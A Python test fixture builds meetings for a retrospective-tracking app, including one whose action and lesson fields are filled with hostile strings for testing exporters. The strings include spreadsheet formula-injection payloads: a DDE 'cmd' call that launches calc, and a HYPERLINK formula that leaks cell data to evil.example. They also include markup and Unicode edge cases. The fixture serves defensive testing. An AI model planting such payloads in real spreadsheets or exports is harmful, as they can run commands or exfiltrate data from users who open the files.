"""Meetings for the writers of records: one with everything in it, and one that is all malice."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from typing import Any

from retro_tui.domain.fields import FieldSpec
from retro_tui.storage.models import Action, Lesson, Meeting, Record, specs
from tests.hostile.strings import ALL
from tests.minutes.samples import add, full

UPDATED = datetime(2026, 10, 2, 8, 30, 15, 250_000, UTC)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+86 10 1234",
    "-1+1",
    "|pipe",
    "%PATH%",
    "  =1+1",
    "\u3000=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "{=1+1}",
)
"""What a spreadsheet would reckon, or might."""
OTHERS = (
    "She said \"no\", and; 'yes', \\N and C:\\New\\new",
    "line one\nline two\n\nline four",
    "https://evil.example/ and mailto:a@b.example and internal:'Lessons'!A1",
    "0012",
    "1234567890123456789",
    "_x000D_ _x0041_",
    "<b>bold</b> & &amp; ]]> {macro} [~admin] !http://evil.example/x.png!",
    "مرحبا بالعالم שלום 你好",
    "👩‍👩‍👧‍👦🇨🇳👍🏽 é 喆堃",
    "\ufffe\uffff x",
    "长" * 10_000,
    "a" * 10_000,
    "TRUE",
    "2026-10-02",
)
"""What else has been taken for something that it is not."""
HOSTILE = (*FORMULAS, *OTHERS, *ALL[::25])


def everything() -> Meeting:
    """Return a meeting with an action and a lesson of which every field says something."""
    meeting = full()
    for model in (Action, Lesson):
        links = {name: value for name, value in _LINKS.items() if hasattr(model, name)}
        add(meeting, model, **{spec.name: _value(spec) for spec in specs(model) if spec.kind != "link"})
        for name, kind in links.items():
            setattr(meeting.of(model.KIND)[-1], name, meeting.of(kind)[0].id)
    meeting.actions[-1].original_due_on = date(2026, 9, 7)
    meeting.actions[-1].effect = ""
    return dated(meeting)


_LINKS = {"problem_id": "problems", "cause_id": "causes", "lesson_id": "lessons"}


def _value(spec: FieldSpec) -> Any:
    """Return a value that tells which field it is from."""
    if spec.kind == "choice":
        return spec.choices[0].value
    if spec.kind == "day":
        return date(2026, 11, len(spec.name))
    return f"a {spec.label.lower()} 值"


def hostile() -> Meeting:
    """Return a meeting in which every text of an action and a lesson is hostile, each in its turn."""
    meeting = full()
    meeting.session.title = meeting.session.code = meeting.project.name = FORMULAS[0]
    for model in (Action, Lesson):
        rows: list[Record] = meeting.of(model.KIND)
        rows.clear()
        texts = [s.name for s in specs(model) if s.kind in ("line", "text", "lines", "person")]
        for text in HOSTILE:
            add(meeting, model, **dict.fromkeys(texts, text))
    for action in meeting.actions:
        action.due_on = date(2026, 10, 1)
    return dated(meeting)


def dated(meeting: Meeting) -> Meeting:
    """Give every row a time of its own, which is not that of the test."""
    for number, row in enumerate((meeting.session, *meeting.actions, *meeting.lessons)):
        row.updated_at = UPDATED + timedelta(minutes=number)
        row.version = number + 1
    return meeting
